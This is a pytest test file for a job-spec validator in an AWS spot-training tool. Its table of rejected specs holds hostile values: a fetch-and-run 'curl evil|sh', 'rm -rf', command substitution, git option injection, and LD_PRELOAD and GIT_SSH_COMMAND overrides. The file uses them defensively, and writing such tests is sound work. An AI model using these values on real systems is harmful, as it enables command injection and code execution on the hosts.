"""Table of bad job specs: each is rejected with InvalidJobSpec naming the field, the rule and a fix,
before anything exists in AWS; and our messages agree with plain jsonschema on what is valid."""

from __future__ import annotations

from spottrain.functions.shared import runtime

import copy
import json
import re

import boto3
import jsonschema
import pytest

from moto import mock_aws

from jobstate_support import LAMBDA_ENV, ORIGINAL_2017_SPEC, FakeLambdaContext, make_settings
from spottrain.functions import validate_job
from spottrain.contract import jobspec
from spottrain.contract.jobspec import InvalidJobSpec, schema_problems, validate_spec

SCHEMA = json.loads(jobspec.SCHEMA_PATH.read_text())


def ecma_pattern(validator, pattern, instance, schema):
    """JSON Schema's `pattern` as editors run it: `$` is the end of the value (ECMA-262).

    jsonschema uses Python's re.search, whose `$` also matches before a final newline; the schema's
    patterns have no `$` but their anchors, so the reference semantics is a plain replacement.
    """
    if validator.is_type(instance, "string") and not re.search(pattern.replace("$", r"\Z"), instance):
        yield jsonschema.ValidationError(f"{instance!r} does not match {pattern!r}")


JSONSCHEMA = jsonschema.validators.extend(jsonschema.Draft202012Validator, {"pattern": ecma_pattern})(SCHEMA)
DROP = object()  # marks a field to remove from the base spec


def spec_with(**changes) -> dict:
    spec = copy.deepcopy(ORIGINAL_2017_SPEC)
    for name, value in changes.items():
        if value is DROP:
            spec.pop(name)
        else:
            spec[name] = value
    return spec


# AWS's documentation example key id, assembled so no key-shaped literal sits in the repository.
EXAMPLE_ACCESS_KEY_ID = "AKIA" + "IOSFODNN7EXAMPLE"

# (case id, spec, field path the message must start with, words the message must contain, schema-level?)
BAD_SPECS = [
    ("missing exec_name", spec_with(exec_name=DROP), "exec_name", "required", True),
    ("missing repository_url", spec_with(repository_url=DROP), "repository_url", "required", True),
    ("missing data_dir", spec_with(data_dir=DROP), "data_dir", "required", True),
    ("missing output_dir", spec_with(output_dir=DROP), "output_dir", "required", True),
    ("missing data_get_command", spec_with(data_get_command=DROP), "data_get_command", "required", True),
    ("missing exec_command", spec_with(exec_command=DROP), "exec_command", "required", True),
    ("empty exec_command", spec_with(exec_command=""), "exec_command", "must not be empty", True),
    ("blank data_get_command", spec_with(data_get_command="   \n"), "data_get_command", "blank", True),
    ("empty repository_url", spec_with(repository_url=""), "repository_url", "must not be empty", True),
    ("exec_name is a number", spec_with(exec_name=42), "exec_name", "must be a string", True),
    (
        "exec_command is a list",
        spec_with(exec_command=["python", "train.py"]),
        "exec_command",
        "must be a string",
        True,
    ),
    ("spec is a list", [ORIGINAL_2017_SPEC], "spec", "must be an object", True),
    ("spec is null", None, "spec", "must be an object", True),
    ("uppercase exec_name", spec_with(exec_name="Pix2Pix"), "exec_name", "not allowed", True),
    ("underscore in exec_name", spec_with(exec_name="pix2pix_facade"), "exec_name", "not allowed", True),
    ("exec_name ends with hyphen", spec_with(exec_name="pix2pix-"), "exec_name", "not allowed", True),
    ("exec_name too short", spec_with(exec_name="ab"), "exec_name", "at least 3", True),
    ("exec_name too long", spec_with(exec_name="a" * 41), "exec_name", "at most 40", True),
    ("dot in exec_name", spec_with(exec_name="pix2pix.v2"), "exec_name", "not allowed", True),
    ("reserved bucket suffix", spec_with(exec_name="job-s3alias"), "exec_name", "S3 reserves", False),
    ("shell in exec_name", spec_with(exec_name="job;rm -rf"), "exec_name", "not allowed", True),
    ("shell in data_dir", spec_with(data_dir="data; curl evil|sh"), "data_dir", "not allowed", True),
    ("command substitution in output_dir", spec_with(output_dir="$(whoami)"), "output_dir", "not allowed", True),
    ("absolute output_dir", spec_with(output_dir="/etc"), "output_dir", "not allowed", True),
    ("parent escape in data_dir", spec_with(data_dir="data/../../root"), "data_dir", "not allowed", True),
    ("space in checkpoint_dir", spec_with(checkpoint_dir="my checkpoints"), "checkpoint_dir", "not allowed", True),
    (
        "backtick in repository_url",
        spec_with(repository_url="https://github.com/x/`id`.git"),
        "repository_url",
        "not allowed",
        True,
    ),
    (
        "http repository_url",
        spec_with(repository_url="ftp://example.com/repo.git"),
        "repository_url",
        "not allowed",
        True,
    ),
    (
        "password in repository_url",
        spec_with(repository_url="https://bob:hunter2@github.com/x/y.git"),
        "repository_url",
        "password",
        False,
    ),
    (
        "option-like repository_ref",
        spec_with(repository_ref="--upload-pack=evil"),
        "repository_ref",
        "not allowed",
        True,
    ),
    ("shell in repository_name", spec_with(repository_name="repo && reboot"), "repository_name", "not allowed", True),
    ("dot-dot repository_name", spec_with(repository_name=".."), "repository_name", "not allowed", True),
    ("typo field", spec_with(exec_comand="python x.py"), "exec_comand", 'Did you mean "exec_command"', True),
    ("hyphenated field", spec_with(**{"data-dir": "x"}), "data-dir", 'Did you mean "data_dir"', True),
    (
        "instance type outside allow-list",
        spec_with(instance={"types": ["p5.48xlarge"]}),
        "instance.types[0]",
        "not in this stack's allowed",
        False,
    ),
    (
        "duplicate instance types",
        spec_with(instance={"types": ["g5.xlarge", "g5.xlarge"]}),
        "instance.types",
        "repeat",
        True,
    ),
    (
        "too many instance types",
        spec_with(instance={"types": ["g5.xlarge"] * 3 + ["a.b", "c.d", "e.f"]}),
        "instance.types",
        "at most 5",
        True,
    ),
    ("empty instance types", spec_with(instance={"types": []}), "instance.types", "at least 1", True),
    ("malformed instance type", spec_with(instance={"types": ["g5 xlarge"]}), "instance.types[0]", "not allowed", True),
    ("volume too small", spec_with(instance={"volume_gb": 8}), "instance.volume_gb", "at least 30", True),
    (
        "fallback as string",
        spec_with(instance={"on_demand_fallback": "yes"}),
        "instance.on_demand_fallback",
        "true or false",
        True,
    ),
    ("unknown instance key", spec_with(instance={"type": "g5.xlarge"}), "instance.type", 'Did you mean "types"', True),
    ("absurd runtime", spec_with(limits={"max_runtime_minutes": 10**9}), "limits.max_runtime_minutes", "at most", True),
    (
        "runtime over stack cap",
        spec_with(limits={"max_runtime_minutes": 601}),
        "limits.max_runtime_minutes",
        "over this stack's cap of 600",
        False,
    ),
    ("zero runtime", spec_with(limits={"max_runtime_minutes": 0}), "limits.max_runtime_minutes", "at least 1", True),
    ("fractional attempts", spec_with(limits={"max_attempts": 1.5}), "limits.max_attempts", "whole number", True),
    ("attempts as bool", spec_with(limits={"max_attempts": True}), "limits.max_attempts", "whole number", True),
    ("attempts over stack cap", spec_with(limits={"max_attempts": 4}), "limits.max_attempts", "cap of 3", False),
    ("spend cap zero", spec_with(limits={"max_cost_usd": 0}), "limits.max_cost_usd", "at least 0.0001", True),
    ("spend cap negative", spec_with(limits={"max_cost_usd": -5}), "limits.max_cost_usd", "most USD", True),
    ("spend cap as text", spec_with(limits={"max_cost_usd": "5"}), "limits.max_cost_usd", "a number", True),
    ("negative keep alive", spec_with(keep_alive_minutes=-5), "keep_alive_minutes", "at least 0", True),
    ("keep alive over stack cap", spec_with(keep_alive_minutes=45), "keep_alive_minutes", "cap of 30", False),
    (
        "negative debug door",
        spec_with(on_failure={"keep_alive_minutes": -1}),
        "on_failure.keep_alive_minutes",
        "at least 0",
        True,
    ),
    (
        "debug door over stack cap",
        spec_with(on_failure={"keep_alive_minutes": 31}),
        "on_failure.keep_alive_minutes",
        "cap of 30",
        False,
    ),
    (
        "unknown on_failure key",
        spec_with(on_failure={"keep_alive": 5}),
        "on_failure.keep_alive",
        'Did you mean "keep_alive_minutes"',
        True,
    ),
    ("negative capacity wait", spec_with(capacity_wait_minutes=-1), "capacity_wait_minutes", "at least 0", True),
    (
        "capacity wait over stack cap",
        spec_with(capacity_wait_minutes=241),
        "capacity_wait_minutes",
        "cap of 240",
        False,
    ),
    (
        "zero interruptions",
        spec_with(on_demand_after={"interruptions": 0}),
        "on_demand_after.interruptions",
        "at least 1",
        True,
    ),
    ("unknown on-demand trigger", spec_with(on_demand_after={"hours": 2}), "on_demand_after.hours", "not", True),
    (
        "on-demand after longer than the wait",
        spec_with(capacity_wait_minutes=10, on_demand_after={"capacity_wait_minutes": 20}),
        "on_demand_after.capacity_wait_minutes",
        "never switch",
        False,
    ),
    (
        "huge command",
        spec_with(exec_command="python train.py " + "--flag " * 700),
        "exec_command",
        "at most 4096",
        True,
    ),
    (
        "spec over 16 KiB",
        spec_with(
            setup_command="x" * 4000,
            data_get_command="y" * 4000,
            exec_command="z" * 4000,
            env={f"V{i}": "v" * 1000 for i in range(5)},
        ),
        "spec",
        "16384-byte",
        False,
    ),
    ("secret-looking env name", spec_with(env={"WANDB_API_TOKEN": "abc"}), "env.WANDB_API_TOKEN", "secret", False),
    ("AWS key in env value", spec_with(env={"SOME_ID": EXAMPLE_ACCESS_KEY_ID}), "env.SOME_ID", "access key", False),
    ("reserved AWS_ env", spec_with(env={"AWS_REGION": "eu-west-1"}), "env.AWS_REGION", "reserved", False),
    ("reserved SPOTTRAIN_ env", spec_with(env={"SPOTTRAIN_BUCKET": "x"}), "env.SPOTTRAIN_BUCKET", "reserved", False),
    ("env value not a string", spec_with(env={"BATCH": 64}), "env.BATCH", "must be a string", True),
    ("bad env name", spec_with(env={"MY-VAR": "1"}), "env.MY-VAR (name)", "not allowed", True),
    (
        "checkpoint_dir is output_dir",
        spec_with(checkpoint_dir="result/"),
        "checkpoint_dir",
        "must differ from output_dir",
        False,
    ),
    (
        "checkpoint_dir is ./output_dir",
        spec_with(checkpoint_dir="./result"),
        "checkpoint_dir",
        "must differ from output_dir",
        False,
    ),
    # Python's `$` matches before a final newline; JSON Schema's (and ours) only at the end.
    ("newline after exec_name", spec_with(exec_name="pix2pix-facade\n"), "exec_name", "not allowed", True),
    (
        "newline after repository_url",
        spec_with(repository_url="https://github.com/x/y.git\n"),
        "repository_url",
        "not allowed",
        True,
    ),
    (
        "newline after repository_name",
        spec_with(repository_name="chainer-pix2pix\n"),
        "repository_name",
        "not allowed",
        True,
    ),
    ("newline after repository_ref", spec_with(repository_ref="main\n"), "repository_ref", "not allowed", True),
    ("newline after data_dir", spec_with(data_dir="facade\n"), "data_dir", "not allowed", True),
    (
        "newline after instance type",
        spec_with(instance={"types": ["g5.xlarge\n"]}),
        "instance.types[0]",
        "not allowed",
        True,
    ),
    ("newline after env name", spec_with(env={"BATCH\n": "1"}), "env.BATCH\\n (name)", "not allowed", True),
    ("checkpoint_dir is the clone itself", spec_with(checkpoint_dir="."), "checkpoint_dir", "not allowed", True),
    ("data_dir is the clone itself", spec_with(data_dir="./"), "data_dir", "not allowed", True),
    ("NUL in exec_command", spec_with(exec_command="python train.py\x00--evil"), "exec_command", "NUL", False),
    ("NUL in env value", spec_with(env={"BATCH": "64\x00"}), "env.BATCH", "NUL", False),
    (
        "token as user in repository_url",
        spec_with(repository_url="https://ghp_abc123@github.com/x/y.git"),
        "repository_url",
        "token",
        False,
    ),
    (
        "password in ssh repository_url",
        spec_with(repository_url="ssh://git:hunter2@example.com/x/y.git"),
        "repository_url",
        "password",
        False,
    ),
    ("PATH in env", spec_with(env={"PATH": "/opt/bin"}), "env.PATH", "login profile", False),
    ("HOME in env", spec_with(env={"HOME": "/tmp"}), "env.HOME", "reserved", False),
    ("LD_PRELOAD in env", spec_with(env={"LD_PRELOAD": "/tmp/x.so"}), "env.LD_PRELOAD", "dynamic loader", False),
    (
        "LD_LIBRARY_PATH in env",
        spec_with(env={"LD_LIBRARY_PATH": "/opt/lib"}),
        "env.LD_LIBRARY_PATH",
        "dynamic loader",
        False,
    ),
    ("BASH_ENV in env", spec_with(env={"BASH_ENV": "/tmp/x.sh"}), "env.BASH_ENV", "bash", False),
    ("ENV in env", spec_with(env={"ENV": "/tmp/x.sh"}), "env.ENV", "bash", False),
    ("SHELLOPTS in env", spec_with(env={"SHELLOPTS": "xtrace"}), "env.SHELLOPTS", "bash", False),
    ("IFS in env", spec_with(env={"IFS": "/"}), "env.IFS", "bash", False),
    (
        "exported bash function in env",
        spec_with(env={"BASH_FUNC_ls%%": "() { :; }"}),
        "env.BASH_FUNC_ls%% (name)",
        "not allowed",
        True,
    ),
    (
        "GIT_SSH_COMMAND in env",
        spec_with(env={"GIT_SSH_COMMAND": "ssh -o ProxyCommand=evil"}),
        "env.GIT_SSH_COMMAND",
        "agent's own clone",
        False,
    ),
    ("GIT_DIR in env", spec_with(env={"GIT_DIR": "/tmp"}), "env.GIT_DIR", "git reads them", False),
    (
        "GLIBC_TUNABLES in env",
        spec_with(env={"GLIBC_TUNABLES": "glibc.malloc.check=3"}),
        "env.GLIBC_TUNABLES",
        "dynamic loader",
        False,
    ),
    (
        "SPOTTRAIN_RESUME in env",
        spec_with(env={"SPOTTRAIN_RESUME": "1"}),
        "env.SPOTTRAIN_RESUME",
        "spottrain sets them",
        False,
    ),
    ("deeply nested spec", spec_with(instance=json.loads("[" * 900 + "]" * 900)), "spec", "nested more than", True),
]


@pytest.fixture(scope="module")
def deployed_validator():
    """One fake account and function environment for the whole table (a fresh mock per case costs ~1 s)."""
    with pytest.MonkeyPatch.context() as patch:
        for name, value in {
            **LAMBDA_ENV,
            "AWS_ACCESS_KEY_ID": "testing",
            "AWS_SECRET_ACCESS_KEY": "testing",
            "AWS_DEFAULT_REGION": "us-east-1",
        }.items():
            patch.setenv(name, value)
        runtime.settings.cache_clear()
        with mock_aws():
            yield boto3.client("s3"), boto3.client("ec2")
        runtime.settings.cache_clear()


@pytest.mark.parametrize(
    "spec, field, words, schema_level", [case[1:] for case in BAD_SPECS], ids=[case[0] for case in BAD_SPECS]
)
def test_given_bad_spec_when_validating_then_invalid_job_spec_names_field_rule_and_fix(
    deployed_validator, spec, field, words, schema_level
):
    s3, ec2 = deployed_validator
    execution = {"id": "arn:exec", "name": "run-1", "started_at": "2026-01-01T00:00:00Z"}

    with pytest.raises(InvalidJobSpec) as caught:
        validate_job.handler({"spec": spec, "execution": execution}, FakeLambdaContext())

    message = next((p for p in caught.value.problems if p.startswith(f"{field}:")), None)
    assert message is not None, caught.value.problems
    assert words in message
    rule, _, fix = message.partition(". ")
    assert fix.strip(), f"no fix in {message!r}"
    assert s3.list_buckets()["Buckets"] == []  # nothing created
    assert ec2.describe_instances()["Reservations"] == []


@pytest.mark.parametrize(
    "spec, schema_level", [(case[1], case[4]) for case in BAD_SPECS], ids=[case[0] for case in BAD_SPECS]
)
def test_given_table_case_when_checked_by_jsonschema_then_interpreter_agrees(spec, schema_level):
    assert bool(schema_problems(spec)) == (not JSONSCHEMA.is_valid(spec))
    # The table's own labels are honest: schema-level cases break the schema, the others only stack rules.
    assert JSONSCHEMA.is_valid(spec) is not schema_level


def test_given_many_problems_when_validating_then_all_are_listed_at_once():
    spec = spec_with(exec_name="Bad Name", data_dir="/etc", limits={"max_attempts": 99})
    with pytest.raises(InvalidJobSpec) as caught:
        validate_spec(spec, make_settings())
    fields = sorted(p.split(":")[0] for p in caught.value.problems)
    assert fields == ["data_dir", "exec_name", "limits.max_attempts"]
    assert str(caught.value).count("\n- ") == 3


def test_given_long_bucket_prefix_when_name_fits_schema_but_not_s3_then_rejected_with_room_left():
    settings = make_settings(bucket_prefix="acme-ml-research-training-123456789012")  # 38 characters
    with pytest.raises(InvalidJobSpec) as caught:
        validate_spec(spec_with(exec_name="a" * 30), settings)
    assert caught.value.problems == [
        f'exec_name: the job bucket "{settings.bucket_prefix}-{"a" * 30}" would be 69 characters, over S3\'s 63. '
        "Shorten exec_name to at most 24 characters for this stack's bucket prefix."
    ]
    assert validate_spec(spec_with(exec_name="a" * 24), settings)["bucket"] == f"{settings.bucket_prefix}-{'a' * 24}"


def test_given_2017_original_input_when_validating_then_accepted_unchanged_with_defaults():
    job = validate_spec(copy.deepcopy(ORIGINAL_2017_SPEC), make_settings())
    assert {k: job[k] for k in ORIGINAL_2017_SPEC} == ORIGINAL_2017_SPEC
    assert job["bucket"] == "spottrain-123456789012-pix2pix-facade"
    assert job["instance"] == {"types": ["g5.xlarge", "g4dn.xlarge"], "on_demand_fallback": False, "volume_gb": 100}
    assert job["limits"] == {"max_runtime_minutes": 600, "max_attempts": 3}
    assert job["keep_alive_minutes"] == 0 and job["checkpoint_dir"] is None and job["env"] == {}


@pytest.mark.parametrize(
    "url, name",
    [
        ("https://github.com/pfnet-research/chainer-pix2pix.git", "chainer-pix2pix"),
        ("git@github.com:owner/my.repo.git", "my.repo"),
        ("ssh://git@example.com:2222/team/project", "project"),
        ("file:///home/me/code/spottrain/", "spottrain"),
        ("/srv/git/payload.git", "payload"),
    ],
)
def test_given_no_repository_name_when_validating_then_derived_from_url(url, name):
    spec = spec_with(repository_name=DROP, repository_url=url)
    assert validate_spec(spec, make_settings())["repository_name"] == name
    assert JSONSCHEMA.is_valid(spec) and not schema_problems(spec)


def test_given_whole_number_float_when_validating_then_accepted_as_int_like_jsonschema():
    spec = spec_with(limits={"max_attempts": 2.0})
    assert JSONSCHEMA.is_valid(spec) and not schema_problems(spec)
    assert validate_spec(spec, make_settings())["limits"]["max_attempts"] == 2


def test_given_stack_without_on_demand_when_job_asks_for_it_then_rejected():
    spec = spec_with(instance={"on_demand_fallback": True})
    assert validate_spec(spec, make_settings())["instance"]["on_demand_fallback"] is True
    with pytest.raises(InvalidJobSpec, match="instance.on_demand_fallback: this stack does not allow"):
        validate_spec(spec, make_settings(on_demand_fallback=False))


def test_given_stack_without_on_demand_when_job_sets_an_on_demand_policy_then_rejected():
    spec = spec_with(on_demand_after={"interruptions": 2})
    assert validate_spec(spec, make_settings())["on_demand_after"] == {"interruptions": 2}
    with pytest.raises(InvalidJobSpec, match="on_demand_after: this stack does not allow on-demand instances"):
        validate_spec(spec, make_settings(on_demand_fallback=False))


def test_given_schema_that_is_not_json_schema_when_loading_then_refused(tmp_path, monkeypatch):
    # Given a schema edit jsonschema cannot read ("text" is no JSON type), When loaded, Then refused at once
    schema = dict(SCHEMA, properties={**SCHEMA["properties"], "exec_name": {"type": "text"}})
    path = tmp_path / "job-spec.schema.json"
    path.write_text(json.dumps(schema))
    monkeypatch.setattr(jobspec, "SCHEMA_PATH", path)
    jobspec.load_schema.cache_clear()
    try:
        with pytest.raises(jsonschema.SchemaError, match="text"):
            jobspec.load_schema()
    finally:
        jobspec.load_schema.cache_clear()


def test_given_shipped_schema_then_valid_json_schema():
    jsonschema.Draft202012Validator.check_schema(SCHEMA)
    assert jobspec.load_schema() == SCHEMA


def test_given_several_schema_problems_then_one_message_per_field_sorted_by_path_with_each_hint():
    # Given an empty command (also blank), a bad variable name, a typo'd field, a wrong type and a missing field
    spec = spec_with(exec_command="", env={"1X": "1"}, exectime=3, keep_alive_minutes="5", data_dir=DROP)
    # When checked against the schema alone
    problems = schema_problems(spec)
    # Then each field shows once, the plainest rule first, in field order, each with its property's x-hint
    hints = {name: SCHEMA["properties"][name]["x-hint"] for name in ("data_dir", "exec_command", "keep_alive_minutes")}
    assert problems == [
        f"data_dir: is required but missing. {hints['data_dir']}",
        'env.1X (name): "1X" has characters or a form that is not allowed. '
        f"{SCHEMA['properties']['env']['propertyNames']['x-hint']}",
        f"exec_command: must not be empty. {hints['exec_command']}",
        'exectime: is not a known field. Did you mean "exec_name"?',
        f'keep_alive_minutes: must be a whole number, not "5". {hints["keep_alive_minutes"]}',
    ]


def test_given_everyday_training_variables_and_multi_line_commands_when_validating_then_accepted():
    # Given the PYTHON* variables training scripts use (they reach the commands, never the agent's own
    # interpreter) and commands written over several lines, as a script with a final newline is
    spec = spec_with(
        env={"PYTHONPATH": "src", "PYTHONUNBUFFERED": "1", "MPLBACKEND": "Agg"},
        exec_command="set -e\npython train.py \\\n  --epochs 3\n",
    )
    # When validated, Then nothing is refused and the values pass unchanged
    job = validate_spec(spec, make_settings())
    assert job["env"]["PYTHONPATH"] == "src" and job["exec_command"].endswith("--epochs 3\n")


def test_given_lowercase_names_of_reserved_variables_when_validating_then_accepted():
    # bash, the dynamic loader and git read names case-sensitively: `path` or `ld_preload` change nothing
    job = validate_spec(spec_with(env={"path": "data", "Home": "x", "ld_preload": "none"}), make_settings())
    assert sorted(job["env"]) == ["Home", "ld_preload", "path"]


@pytest.mark.parametrize("name", ["A\x00B", "A\nB", "X\x1b[2J\x1b[31m"])
def test_given_control_characters_in_a_name_when_refused_then_each_problem_is_one_printable_line(name):
    with pytest.raises(InvalidJobSpec) as caught:
        validate_spec(spec_with(env={name: "1"}, instance={"types": ["g5.xlarge\n"]}), make_settings())

    assert caught.value.problems
    for problem in caught.value.problems:
        assert problem.isprintable(), repr(problem)


@pytest.mark.parametrize(
    "pattern, value, matches",
    [
        ("^[a-z]+$", "job", True),
        ("^[a-z]+$", "job\n", False),
        ("^a[$]$", "a$", True),
        (r"^a\$$", "a$", True),
        (r"^a\$$", "a$\n", False),
        (r"\S", "  x\n", True),
    ],
)
def test_given_a_schema_pattern_then_dollar_means_the_end_of_the_value_as_in_json_schema(pattern, value, matches):
    assert bool(jobspec.ecma_pattern(pattern).search(value)) is matches


def test_given_a_stack_spend_cap_when_validating_then_it_is_the_default_and_the_most_a_job_may_ask():
    # Given a stack with maxCostUsd 2
    settings = make_settings(max_cost_usd=2.0)

    # Then a job without a cap gets the stack's, one within it keeps its own, one over it is refused with the fix
    assert validate_spec(spec_with(), settings)["limits"]["max_cost_usd"] == 2
    assert validate_spec(spec_with(limits={"max_cost_usd": 1.5}), settings)["limits"]["max_cost_usd"] == 1.5
    with pytest.raises(InvalidJobSpec) as caught:
        validate_spec(spec_with(limits={"max_cost_usd": 5}), settings)
    assert caught.value.problems == [
        "limits.max_cost_usd: 5 is over this stack's cap of 2 USD. Use at most 2, or leave "
        "it out to get 2 (the stack's maxCostUsd setting raises the cap)."
    ]
    # And a stack without a cap leaves a job without one uncapped
    assert "max_cost_usd" not in validate_spec(spec_with(), make_settings())["limits"]


def test_given_a_stack_without_a_debug_door_when_a_spec_asks_for_one_then_the_problem_says_how_to_open_it():
    # Given a stack deployed with maxFailureKeepAliveMinutes=0 (no door, no Session Manager permissions)
    settings = make_settings(max_failure_keep_alive_minutes=0)

    problems = jobspec.spec_problems(spec_with(on_failure={"keep_alive_minutes": 5}), settings)

    # Then the field, the rule and the fix are named
    assert problems == [
        "on_failure.keep_alive_minutes: this stack has no debug door (its maxFailureKeepAliveMinutes "
        "is 0). Remove the field, or deploy the stack with -c maxFailureKeepAliveMinutes=30."
    ]


def test_given_a_bad_debug_door_value_then_the_schema_problem_carries_its_hint():
    hint = SCHEMA["properties"]["on_failure"]["properties"]["keep_alive_minutes"]["x-hint"]

    problems = schema_problems(spec_with(on_failure={"keep_alive_minutes": "15"}))

    assert problems == [f'on_failure.keep_alive_minutes: must be a whole number, not "15". {hint}']


@pytest.mark.parametrize(
    "field,value,says",
    [
        ("capacity_wait_minutes", 241, "Use at most 240, or leave it out to get the stack's default of 30 "),
        ("keep_alive_minutes", 31, "Use at most 30, or leave it out to get the stack's default of 0 "),
        ("limits", {"max_attempts": 4}, "Use at most 3, or leave it out to get the stack's default of 3 "),
    ],
)
def test_given_a_value_over_a_cap_then_the_fix_names_what_leaving_it_out_gives(field, value, says):
    # Given a stack whose default for the field differs from its cap (capacity wait: 30 by default, 240 at most)
    settings = make_settings(capacity_wait_minutes=30, max_capacity_wait_minutes=240, default_keep_alive_minutes=0)

    # When the spec asks for more than the cap
    problems = jobspec.spec_problems({**ORIGINAL_2017_SPEC, field: value}, settings)

    # Then the fix says what leaving the field out really gives: the default, not the cap
    assert any(says in problem for problem in problems), problems


def test_given_an_empty_on_demand_after_then_refused_as_it_would_never_switch():
    problems = jobspec.spec_problems(
        {**ORIGINAL_2017_SPEC, "on_demand_after": {}}, make_settings(on_demand_fallback=True)
    )

    assert any(p.startswith("on_demand_after: is empty") and "interruptions" in p for p in problems), problems


@pytest.mark.parametrize(
    "interruptions,max_attempts,refused", [(3, 3, True), (4, 3, True), (2, 3, False), (1, 1, True)]
)
def test_given_interruptions_not_below_max_attempts_then_refused_saying_no_attempt_would_follow(
    interruptions, max_attempts, refused
):
    # Given a job of max_attempts attempts asking for on-demand after `interruptions` interruptions
    spec = {
        **ORIGINAL_2017_SPEC,
        "on_demand_after": {"interruptions": interruptions},
        "limits": {**ORIGINAL_2017_SPEC.get("limits", {}), "max_attempts": max_attempts},
    }

    problems = jobspec.spec_problems(spec, make_settings(on_demand_fallback=True))

    # Then refused only when no attempt would be left to run on-demand
    hits = [p for p in problems if p.startswith("on_demand_after.interruptions:")]
    assert bool(hits) is refused, problems
    assert not hits or "can never switch" in hits[0] and "limits.max_attempts" in hits[0] and "at most 0" not in hits[0]
